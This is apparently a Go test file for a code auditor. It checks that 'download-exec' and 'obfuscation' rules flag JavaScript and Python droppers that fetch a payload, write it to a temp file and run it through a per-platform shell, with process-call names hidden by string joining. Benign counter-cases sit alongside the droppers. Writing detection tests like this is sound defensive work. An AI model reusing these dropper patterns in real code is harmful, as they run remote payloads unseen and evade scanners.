package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestDropperThroughConstants: a JavaScript dropper whose process call is
// made through a constant (cp[m] with m = ['sp', 'awn'].join(”) or
// 'ex' + 'ecFile') and whose interpreter is a variable choosing among
// shells per platform is read as the call it makes: download-exec,
// critical when hidden or the name was joined, high otherwise; the joined
// name itself is obfuscation, high. A constant naming a harmless method,
// an interpreter variable that may hold a linter, or a bracket call of a
// plain literal constant with no write is not. Python's getattr(subprocess,
// m) and a per-platform dict of shells are read the same way.
func TestDropperThroughConstants(t *testing.T) {
	crit, high, none := audit.Critical, audit.High, audit.SeverityNone
	js := func(body string) map[string]string { return map[string]string{"lib/setup.js": body} }
	head := "const os = require('os');\nconst fs = require('fs');\nconst https = require('https');\nconst cp = require('child_process');\nconst dest = require('path').join(os.tmpdir(), 'p');\n"
	fetch := "https.get(URL, (res) => { const c = []; res.on('data', (d) => c.push(d)); res.on('end', () => run(Buffer.concat(c))); });\n"
	runner := "const runner = { linux: 'sh', darwin: 'bash', win32: 'powershell' }[os.platform()] || 'sh';\n"
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/array-join-detached": {js(head + runner + "const m = ['sp', 'awn'].join('');\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp[m](runner, [dest], { detached: true, stdio: 'ignore' }).unref();\n}\n"), crit},
		"hostile/plus-join-plain": {js(head + "const how = 'exec' + 'FileSync';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b, { mode: 0o755 });\n  cp[how](dest, ['--init']);\n}\n"), crit},
		"hostile/const-name-interp-var": {js(head + runner + "const fn = 'spawnSync';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp[fn](runner, [dest], { stdio: 'inherit' });\n}\n"), high},
		"hostile/interp-var-dotted": {js(head + runner + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp.spawnSync(runner, [dest], { stdio: 'inherit' });\n}\n"), high},
		"benign/interp-var-may-be-linter": {js(head + "const tool = process.env.CI ? 'sh' : 'eslint';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp.spawnSync(tool, [dest]);\n}\n"), none},
		"benign/const-method-not-process": {js(head + "const m = ['to', 'String'].join('');\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  console.log(b[m]('utf8'), dest);\n}\n"), none},
		"benign/name-declared-twice": {js(head + "let m = 'spawn';\nlet m = 'log';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  console[m]('sh', [dest]);\n}\n"), none},
	})
	py := func(body string) map[string]string { return map[string]string{"scripts/setup.py": body} }
	pyHead := "import os, sys, subprocess as sp, tempfile, urllib.request\ndest = os.path.join(tempfile.gettempdir(), '.p')\nurllib.request.urlretrieve('https://x.example/p/' + sys.platform, dest)\n"
	pyRunner := "runner = {'linux': 'sh', 'darwin': 'bash', 'win32': 'powershell'}.get(sys.platform, 'sh')\n"
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/py-join-getattr-alias": {py(pyHead + pyRunner + "m = ''.join(['Po', 'pen'])\ngetattr(sp, m)([runner, dest], start_new_session=True)\n"), crit},
		"hostile/py-plain-const":        {py(pyHead + pyRunner + "how = 'run'\ngetattr(sp, how)([runner, dest], check=True)\n"), high},
		"hostile/py-interp-var":         {py(pyHead + pyRunner + "sp.run([runner, dest], check=True)\n"), high},
		"benign/py-getattr-own-object":  {py(pyHead + pyRunner + "class T:\n    def run(self, a):\n        print(a)\nt = T()\ngetattr(t, 'run')([runner, dest])\n"), none},
		"benign/py-var-may-be-linter":   {py(pyHead + "tool = 'sh' if os.environ.get('CI') else 'ruff'\ntool = 'ruff'\nsp.run([tool, dest])\n"), none},
	})
	checkRule(t, "obfuscation", map[string]systemCase{
		"hostile/py-joined-getattr": {py("import subprocess\ngetattr(subprocess, 'check_' + 'output')(['id'])\n"), high},
		"benign/py-getattr-plain":   {py("import subprocess\ngetattr(subprocess, 'run')(['ls'])\n"), none},
	})
	checkRule(t, "obfuscation", map[string]systemCase{
		"hostile/array-joined-spawn":  {js("const cp = require('child_process');\nconst m = ['sp', 'awn'].join('');\ncp[m]('id');\n"), high},
		"hostile/concat-joined-exec":  {js("const cp = require('child_process');\nconst k = 'ex'.concat('ec');\ncp[k]('id');\n"), high},
		"benign/array-joined-words":   {js("const parts = ['first', 'Name'].join('');\nconsole.log(user[parts]);\n"), none},
		"benign/single-literal-spawn": {js("const cp = require('child_process');\nconst m = 'spawn';\ncp[m]('ls');\n"), none},
	})
}
